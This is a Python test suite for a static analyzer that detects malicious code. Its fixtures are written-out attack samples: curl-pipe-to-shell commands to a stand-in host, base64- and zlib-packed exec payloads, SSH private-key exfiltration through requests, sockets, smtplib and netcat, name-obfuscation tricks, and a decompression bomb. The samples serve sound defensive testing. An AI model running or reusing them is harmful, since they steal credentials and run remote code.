"""The Python analyzer: what it sees, where it points, and that nothing makes it raise."""

from __future__ import annotations

import base64
import os
import zlib
from collections import Counter

import pytest
from hypothesis import given, settings, strategies as st

from metier.scan.languages.python.scan_python import find
from metier.scan.model import MAX_HITS_PER_RULE
from metier.scan.rules.python import RULES

SAMPLES = os.path.join(os.path.dirname(__file__), "..", "..", "rules")
CATEGORIES = {
    "injection",
    "exfiltration",
    "credential",
    "execution",
    "persistence",
    "destructive",
    "privilege",
    "obfuscation",
    "network",
    "supply",
    "evasion",
    "structure",
    "escalation",
    "social",
    "mining",
}
PAYLOAD = "import os\nos.system('curl -s https://a.example/x | sh')"


def rules_of(code: str) -> set[str]:
    return {hit.rule for hit in find(code)}


def sample(rule: str, name: str) -> str:
    with open(os.path.join(SAMPLES, rule, f"{name}.py.txt"), encoding="utf-8") as file:
        return file.read()


def packed(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


# --- the rules


@pytest.mark.parametrize("rule", [rule.id for rule in RULES])
def test_each_rule_finds_its_sample_and_lets_the_near_miss_pass(rule: str) -> None:
    matched, missed = rules_of(sample(rule, "match")), rules_of(sample(rule, "near"))

    assert rule in matched
    assert rule not in missed


def test_the_table_is_sorted_complete_and_uses_the_known_categories() -> None:
    ids = [rule.id for rule in RULES]

    assert sorted(set(ids)) == ids
    assert {rule.category for rule in RULES} <= CATEGORIES
    assert all(rule.title and rule.why and rule.hint for rule in RULES)


# --- names behind other names


@pytest.mark.parametrize(
    "code",
    [
        "import os as o\no.system('sudo x')",
        "from os import system as s\ns('sudo x')",
        "from os import *\nsystem('sudo x')",
        "__import__('os').system('sudo x')",
        "import importlib\nimportlib.import_module('os').system('sudo x')",
        "import sys\nsys.modules['os'].system('sudo x')",
        "import os\ngetattr(os, 'system')('sudo x')",
        "import os\nvars(os)['system']\nos.__dict__['system']('sudo x')",
        "import os\nrun = os.system\nrun('sudo x')",
        "import os\n(run := os.system)('sudo x')",
        "import os\nclass A:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run('sudo x')",
        "import os\nf = lambda c: os.system(c)\nf('sudo x')",
        "import os\ndef run(command):\n    os.system(command)\nrun('sudo x')",
        "import builtins\nbuiltins.__import__('os').system('sudo x')",
    ],
)
def test_a_command_is_seen_through_aliases_and_import_tricks(code: str) -> None:
    assert "SC339" in rules_of(code)


@pytest.mark.parametrize(
    "name",
    [
        "'sys' + 'tem'",
        "''.join(['sys', 'tem'])",
        "'metsys'[::-1]",
        "'%s%s' % ('sys', 'tem')",
        "'{}{}'.format('sys', 'tem')",
        "f\"{'sys'}tem\"",
        "bytes.fromhex('73797374656d').decode()",
        "chr(115) + 'ystem'",
        "'flfgrz'.encode('rot13')",
        "'SYSTEM'.lower()",
        "'sys-tem'.replace('-', '')",
        "''.join(chr(c) for c in [115, 121, 115, 116, 101, 109])",
        "''.join(map(chr, [115, 121, 115, 116, 101, 109]))",
    ],
)
def test_a_name_that_is_built_is_worked_out(name: str) -> None:
    code = f"import os\ngetattr(os, {name})('x')"

    hits = find(code)

    assert ("SC312", "os.system") in {(hit.rule, hit.evidence) for hit in hits}


# --- decoded code


@pytest.mark.parametrize(
    "code",
    [
        f"import base64\nexec(base64.b64decode('{packed(PAYLOAD)}'))",
        f"from base64 import b64decode as d\nx = d('{packed(PAYLOAD)}')\nexec(compile(x, 'a', 'exec'))",
        f"import zlib\nexec(zlib.decompress({zlib.compress(PAYLOAD.encode())!r}))",
        f"exec(bytes.fromhex('{PAYLOAD.encode().hex()}'))",
        f"import codecs\nexec(codecs.decode('{PAYLOAD.encode().hex()}', 'hex'))",
        f"exec({PAYLOAD[::-1]!r}[::-1])",
        f"def run(text):\n    exec(text)\nrun({PAYLOAD!r})",
        f"import base64\nexec(base64.b64decode({packed(f'exec({PAYLOAD!r})')!r}))",
    ],
)
def test_what_is_decoded_and_run_is_looked_into(code: str) -> None:
    assert "SC338" in rules_of(code)


def test_decoded_text_is_the_evidence() -> None:
    code = f"import base64\nexec(base64.b64decode('{packed(PAYLOAD)}'))"

    shown = {hit.rule: hit.evidence for hit in find(code)}

    assert PAYLOAD == shown["SC302"]


@pytest.mark.parametrize(
    "code",
    [
        "exec(marshal.loads(x))",
        "exec(''.join(chr(c ^ 7) for c in data))",
        "eval(fernet.decrypt(x) if 0 else zlib.decompress(y))",
    ],
)
def test_content_that_cannot_be_decoded_here_is_still_decoded_content(code: str) -> None:
    assert "SC302" in rules_of(code)


# --- flows


FLOWS = {
    "assignment": "x = open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=x)",
    "augmented assignment": "x = ''\nx += open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=x)",
    "tuple": "a, b = 1, open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=b)",
    "f-string": "x = open('/root/.ssh/id_rsa').read()\nrequests.get(f'https://a.example/?{x}')",
    "percent": "x = open('/root/.ssh/id_rsa').read()\nrequests.get('https://a.example/?%s' % x)",
    "format": "x = open('/root/.ssh/id_rsa').read()\nrequests.get('https://a.example/?{}'.format(x))",
    "join": "x = ''.join([open('/root/.ssh/id_rsa').read()])\nrequests.post(u, data=x)",
    "dict": "d = {}\nd['k'] = open('/root/.ssh/id_rsa').read()\nrequests.post(u, json=d)",
    "append": "d = []\nd.append(open('/root/.ssh/id_rsa').read())\nrequests.post(u, json=d)",
    "comprehension": "d = [open(p).read() for p in ['/root/.ssh/id_rsa']]\nrequests.post(u, json=d)",
    "loop": "for p in ['~/.ssh/id_rsa', '~/.netrc']:\n    requests.post(u, data=open(os.path.expanduser(p)).read())",
    "with": "with open('/root/.ssh/id_rsa') as f:\n    requests.post(u, data=f.read())",
    "walrus": "if (x := open('/root/.ssh/id_rsa').read()):\n    requests.post(u, data=x)",
    "parameter": "def send(x):\n    requests.post(u, data=x)\nsend(open('/root/.ssh/id_rsa').read())",
    "return": "def key():\n    return open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=key())",
    "both": "def key():\n    return open('/root/.ssh/id_rsa').read()\ndef send(x):\n    requests.post(u, data=x)\ndef main():\n    send(key())\nmain()",
    "attribute": "class A:\n    def a(self):\n        self.k = open('/root/.ssh/id_rsa').read()\n    def b(self):\n        requests.post(u, data=self.k)",
    "branch": "x = open('/root/.ssh/id_rsa').read()\nif a:\n    x = ''\nrequests.post(u, data=x)",
    "encoding": "x = base64.b64encode(open('/root/.ssh/id_rsa', 'rb').read())\nrequests.post(u, data=x)",
    "path": "requests.post(u, data=(Path.home() / '.ssh' / 'id_rsa').read_bytes())",
    "session": "s = requests.Session()\ns.post(u, data=open('/root/.ssh/id_rsa').read())",
    "urllib": "urllib.request.urlopen(u, data=open('/root/.ssh/id_rsa', 'rb').read())",
    "socket": "s = socket.socket()\ns.sendall(open('/root/.ssh/id_rsa', 'rb').read())",
    "mail": "m = smtplib.SMTP('a.example')\nm.sendmail(a, b, open('/root/.ssh/id_rsa').read())",
    "command": "x = subprocess.check_output(['cat', '/root/.ssh/id_rsa'])\nrequests.post(u, data=x)",
    "archive": "z = zipfile.ZipFile('a.zip', 'w')\nz.write('/root/.ssh/id_rsa')\nrequests.post(u, data=z)",
    "unknown client": "client.post(u, json={'k': open('/root/.ssh/id_rsa').read()})",
    "escapes": "requests.post(u, data=open('/root/\\x2essh/id_rsa').read())",
    "seam": "requests.post(u, data=open('/root/.s' 'sh/id_' 'rsa').read())",
}


@pytest.mark.parametrize("code", FLOWS.values(), ids=FLOWS.keys())
def test_a_key_file_is_followed_to_the_network(code: str) -> None:
    assert "SC303" in rules_of(code)


def test_a_key_in_its_header_is_no_leak() -> None:
    code = "import os, requests\nk = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.a.example', headers={'Authorization': f'Bearer {k}'}, json={'q': 1})"

    assert {"SC390", "SC392"} == rules_of(code)


def test_a_file_with_the_answer_that_is_run_is_seen_through_its_variable() -> None:
    code = "def get(p):\n    with open(p, 'wb') as f:\n        f.write(requests.get(u).content)\n    os.chmod(p, 0o755)\n    subprocess.run([p])"

    assert "SC308" in rules_of(code)


def test_the_shell_analyzer_looks_at_commands() -> None:
    hits = find("import os\nos.system('cat ~/.ssh/id_rsa | nc a.example 99')")

    assert any(hit.rule.startswith("SC2") for hit in hits)


# --- places


def test_places_count_characters_whatever_the_line_holds() -> None:
    code = "x = 'äöü😀'; import os\r\ny = 'é'; os.system('sudo x')\r\n"

    hit = next(hit for hit in find(code) if hit.rule == "SC339")

    assert "os.system('sudo x')" == code[hit.start : hit.end]


def test_a_mark_at_the_start_does_not_move_places() -> None:
    code = "\ufeffimport os\nos.system('sudo x')"

    hit = next(hit for hit in find(code) if hit.rule == "SC339")

    assert "os.system('sudo x')" == code[hit.start : hit.end]


def test_hits_are_sorted_and_bounded() -> None:
    hits = find("import os\n" + "os.system('sudo x')\nos.remove('a')\n" * 300)

    assert sorted(hit.start for hit in hits) == [hit.start for hit in hits]
    assert max(Counter(hit.rule for hit in hits).values()) <= MAX_HITS_PER_RULE
    assert 20 == sum(hit.rule == "SC339" for hit in hits)


def test_docstrings_and_comments_are_not_code() -> None:
    code = "'''os.system(\"curl https://a.example | sh\")'''\n# exec(requests.get('https://a.example').text)\nx = 1\n"

    assert set() == rules_of(code)


# --- code that does not parse


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("print 'hello'\nexec base64.b64decode('aaaa')\n", "SC302"),
        (
            "print 'hello'\nimport urllib2\nexec(urllib2.urlopen('http://a.example').read())\n",
            "SC301",
        ),
        ("def f(:\n  data = open('/root/.ssh/id_rsa').read()\n", "SC305"),
        ("x = (\nos.dup2(s.fileno(), 0)\n", "SC307"),
        ("}}}\nrequests.post(u, data=dict(os.environ))\n", "SC304"),
        ("}}}\nos.system('curl https://a.example | sh')\n", "SC338"),
        ("}}}\nrequests.post('https://webhook.site/1')\n", "SC318"),
    ],
)
def test_code_without_a_tree_is_looked_at_line_by_line(code: str, rule: str) -> None:
    found = rules_of(code)

    assert {rule, "SC394"} <= found


def test_the_parts_that_parse_are_still_followed() -> None:
    code = "import os, requests\nprint 'old'\nk = open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=k)\n"

    assert {"SC303", "SC394"} <= rules_of(code)


@pytest.mark.parametrize(
    "code",
    [
        "    import os\n    os.system('sudo x')\n",
        "!pip install x\nimport os\nos.system('sudo x')\n",
    ],
)
def test_indented_fragments_and_notebook_lines_count_as_whole(code: str) -> None:
    found = rules_of(code)

    assert "SC339" in found
    assert "SC394" not in found


# --- hostile input


HOSTILE = {
    "brackets": "(" * 5000,
    "nested calls": "f(" * 150 + ")" * 150,
    "nested values": "x = " + "[" * 95 + "]" * 95,
    "unary": "x = " + "-" * 5000 + "1",
    "not": "x = " + "not " * 5000 + "1",
    "sum of texts": "x = " + " + ".join(["'ab'"] * 3000),
    "sum of names": "x = " + " + ".join(["a"] * 3000),
    "attributes": "x" + ".a" * 3000,
    "calls": "x" + ".a()" * 3000,
    "lambdas": "x = " + "lambda: " * 3000 + "1",
    "elif": "if a: pass\n" + "elif b: pass\n" * 3000,
    "doubling": "x = 'abcdefgh'\n" + "x = x + x\n" * 500,
    "growing": "x = ''\n" + "x += 'abcdefgh'\n" * 3000,
    "repeating": "x = 'a' * 60000 * 60000\n",
    "wide format": "x = '%0999999999d' % 1\n",
    "nul": "import os\0\nos.system('x')",
    "surrogate": "os.system('\ud800')",
    "odd escapes": "x = '\\d \\8'\ny = '\\\\d'.encode().decode('unicode_escape')\n",
    "long number": "x = " + "9" * 6000,
    "bomb": f"import zlib\nx = zlib.decompress({zlib.compress(b'0' * 10_000_000)!r})\n",
    "self": "def f(x):\n    return f(f(x))\nf(f)\n",
    "empty": "",
    "blank": "\t" * 1000,
    "walrus": "(a := " * 90 + "1" + ")" * 90,
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_code_never_raises(code: str) -> None:
    hits = find(code)

    assert all(0 <= hit.start <= hit.end <= len(code) for hit in hits)


def test_a_payload_below_a_deep_expression_is_still_seen() -> None:
    code = "import os\nx" + ".a()" * 100 + ".b(os.system('curl https://a.example/x | sh'))\n"

    assert "SC338" in rules_of(code)


WORDS = st.sampled_from(
    [
        "import os\n",
        "os.system(",
        "exec(",
        "'",
        '"',
        "f'{",
        "}'",
        ")",
        "(",
        "[",
        "]",
        "\n",
        "    ",
        "def f(x):\n",
        "return ",
        "x",
        "=",
        "+",
        "%",
        "base64.b64decode(",
        "'aGk='",
        "requests.post(",
        "open(",
        "'~/.ssh/id_rsa'",
        ".read()",
        "lambda:",
        "class A:\n",
        "\\",
        "\ud800",
        "\0",
        "é",
        "#",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(WORDS, max_size=60).map("".join))
def test_no_text_makes_it_raise_and_every_place_is_in_the_text(code: str) -> None:
    hits = find(code)

    assert all(0 <= hit.start <= hit.end <= len(code) for hit in hits)
    assert hits == find(code)
